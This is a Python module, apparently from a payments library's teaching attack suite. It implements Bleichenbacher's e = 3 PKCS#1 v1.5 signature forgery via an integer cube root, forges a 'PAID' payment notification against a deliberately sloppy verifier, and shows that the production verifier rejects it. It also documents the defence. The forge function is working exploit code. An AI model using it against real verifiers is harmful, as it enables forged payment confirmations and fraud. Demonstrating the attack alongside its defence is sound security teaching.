"""Attack 12: Bleichenbacher's e = 3 signature forgery against a sloppy PKCS#1 v1.5 verifier (2006).

A PKCS#1 v1.5 signature ``s`` is valid when ``s^e mod n`` is the block
``00 01 ff .. ff 00 DigestInfo Hash(M)``. A verifier that *parses* that block -- skip the
``ff``s, find the zero, read the DigestInfo and the hash -- and never checks that the hash
ends the block accepts any block with the right *beginning*. With ``e = 3`` the attacker can
make one without the private key: put the right prefix at the top, anything below, and take
the integer cube root, rounded up. Cubing it back changes only the low "garbage" bits if
the garbage is long enough (about two thirds of the block; a 2048-bit key has room for
SHA-256). No modular arithmetic is involved at all, since ``s^3 < n``.

Defence: verify by re-encoding. RFC 8017 (8.2.2) builds the expected block from the message
and compares all ``k`` bytes; ``cryptography`` does, and so does :mod:`paycore.pkcs1`. PSS and
``e = 65537`` take away the rest of the room.
"""

from __future__ import annotations

from cryptography.hazmat.primitives.asymmetric import rsa

from paycore import secure
from paycore.attacks.intmath import integer_root
from paycore.attacks.keyring import production_key, public_numbers, teaching_key
from paycore.attacks.registry import Attack, register
from paycore.attacks.report import Outcome, Stopwatch, Work
from paycore.attacks.targets import SloppyPKCS1v15Verifier
from paycore.errors import InvalidSignature
from paycore.pkcs1 import lookup_hash
from paycore.textbook import i2osp, os2ip

FORGED_NOTIFICATION = b'{"amount_fen":1234500,"order":"A20261127001","status":"PAID"}'


def forge_pkcs1v15_signature(n: int, e: int, message: bytes, hash: str = "sha256") -> bytes:
    """A "signature" whose ``e``-th power starts ``00 01 ff 00 DigestInfo Hash(message)``, then garbage.

    No private key: it is the integer ``e``-th root of the smallest such block, rounded up.
    Works against a verifier that ignores what follows the hash, when ``e = 3`` and the key
    leaves enough garbage bits (2048 bits for SHA-256).
    """
    k = (n.bit_length() + 7) // 8
    algorithm = lookup_hash(hash)
    prefix = b"\x00\x01\xff\x00" + algorithm.digest_info_prefix + algorithm.digest(message)
    garbage_bits = 8 * (k - len(prefix))
    lowest = os2ip(prefix) << garbage_bits
    root, exact = integer_root(lowest, e)
    return i2osp(root if exact else root + 1, k)


def run_vulnerable() -> Outcome:
    public = teaching_key(2048, e=3, label="attack 12 gateway").public_key()
    verifier = SloppyPKCS1v15Verifier(public.n, public.e)
    with Stopwatch() as watch:
        forged = forge_pkcs1v15_signature(public.n, public.e, FORGED_NOTIFICATION)
    try:
        verifier.verify(FORGED_NOTIFICATION, forged)
        accepted = True
    except InvalidSignature:
        accepted = False
    return Outcome(
        target="sloppy v1.5 verifier, RSA-2048, e = 3",
        succeeded=accepted,
        work=Work(seconds=watch.seconds),
        detail="an integer cube root passed as the gateway's signature on a 'PAID' notification",
    )


def run_production() -> Outcome:
    weak_public = teaching_key(2048, e=3, label="attack 12 gateway").public_key()
    same_modulus = rsa.RSAPublicNumbers(weak_public.e, weak_public.n).public_key()
    production = production_key().public_key()
    accepted = []
    with Stopwatch() as watch:
        for public in (same_modulus, production):
            n, e = public_numbers(public)
            forged = forge_pkcs1v15_signature(n, e, FORGED_NOTIFICATION)
            try:
                secure.verify(public, FORGED_NOTIFICATION, forged, secure.SignatureAlgorithm.PKCS1V15_SHA256)
                accepted.append(e)
            except InvalidSignature:
                pass
    return Outcome(
        target="paycore.secure.verify v1.5, e = 3 and 65537",
        succeeded=bool(accepted),
        work=Work(seconds=watch.seconds),
        detail="InvalidSignature both times: cryptography compares the whole re-encoded block, tail included",
    )


ATTACK = register(
    Attack(
        number=12,
        name="e3-signature-forgery",
        title="Bleichenbacher's e = 3 signature forgery (sloppy PKCS#1 v1.5 verifier)",
        source="D. Bleichenbacher, CRYPTO 2006 rump session (H. Finney's write-up); CVE-2006-4339",
        defence="verify by re-encoding and comparing the whole block (RFC 8017 8.2.2); PSS; e = 65537",
        vulnerable=run_vulnerable,
        production=run_production,
    )
)
